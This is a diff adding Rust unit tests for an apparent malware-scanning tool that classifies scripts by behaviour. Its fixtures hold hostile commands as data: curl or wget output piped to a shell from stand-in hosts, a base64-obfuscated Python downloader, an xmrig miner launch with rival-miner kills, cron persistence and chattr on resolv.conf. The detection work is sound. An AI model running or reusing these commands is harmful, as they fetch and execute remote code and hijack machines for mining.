@@ -1,0 +1,54 @@
+use crate::analyze::config::testkit::{check_manifest, rule_class, run};
+use crate::analyze::config::ConfigAnalyzer;
+use super::ScriptAnalyzer;
+use crate::finding::Class;
+use crate::verdict::Level;
+
+#[test]
+fn manifest() {
+    let failures = check_manifest(&[&ConfigAnalyzer, &ScriptAnalyzer], "fixtures/script");
+    assert!(failures.is_empty(), "\n{}", failures.join("\n"));
+}
+
+fn both(name: &str, text: &str) -> (Vec<crate::finding::Finding>, crate::verdict::Verdict) {
+    run(&[&ConfigAnalyzer, &ScriptAnalyzer], name, text.as_bytes())
+}
+
+#[test]
+fn one_behaviour_alone_is_clean_and_classes_combine() {
+    let (f, v) = both("up.sh", "#!/bin/sh\ncurl -s https://get.example.com | bash\n");
+    assert_eq!(rule_class(&f, "pipe_to_shell"), Some(Class::DownloadExec));
+    assert_eq!(v.level, Level::Clean);
+    let (f, v) = both("up.sh", "#!/bin/sh\nkillall -9 xmrig minerd\n./xmrig -o stratum+tcp://198.51.100.1:3333 -u x\n");
+    assert_eq!(rule_class(&f, "kill_rival_miners"), Some(Class::RivalKill));
+    assert_eq!(v.level, Level::Malicious);
+}
+
+#[test]
+fn rivals_named_in_a_list_above_the_kill() {
+    let text = "#!/bin/bash\nprocs=(xmrig ccminer cpuminer-opt)\nfor p in \"${procs[@]}\"; do\n  pkill -9 -f \"$p\"\ndone\n";
+    let (f, _) = both("k.sh", text);
+    assert_eq!(rule_class(&f, "kill_rival_miners"), Some(Class::RivalKill));
+    // An unrelated kill is not a rival kill.
+    let (f, _) = both("k.sh", "#!/bin/bash\nkill -HUP $(cat /run/nginx.pid)\n");
+    assert!(rule_class(&f, "kill_rival_miners").is_none());
+}
+
+#[test]
+fn decodes_one_layer_of_base64() {
+    use base64::Engine as _;
+    let inner = "import os\nos.system('wget -q http://203.0.113.2/a -O- | sh')\n";
+    let b64 = base64::engine::general_purpose::STANDARD.encode(inner);
+    let text = format!("import base64\nexec(base64.b64decode('{b64}'))\n");
+    let (f, v) = both("x.py", &text);
+    assert_eq!(rule_class(&f, "base64_to_shell"), Some(Class::Evasion));
+    assert_eq!(rule_class(&f, "pipe_to_shell"), Some(Class::DownloadExec));
+    assert_eq!(rule_class(&f, "encoded_payload"), Some(Class::Evasion));
+    assert_eq!(v.level, Level::Suspicious);
+}
+
+#[test]
+fn documentation_is_information() {
+    let (_, v) = both("docs/guide.md", "curl x | sh\n(crontab -l; echo '* * * * * x') | crontab -\nchattr +i /etc/resolv.conf\n");
+    assert_eq!(v.level, Level::Clean);
+}
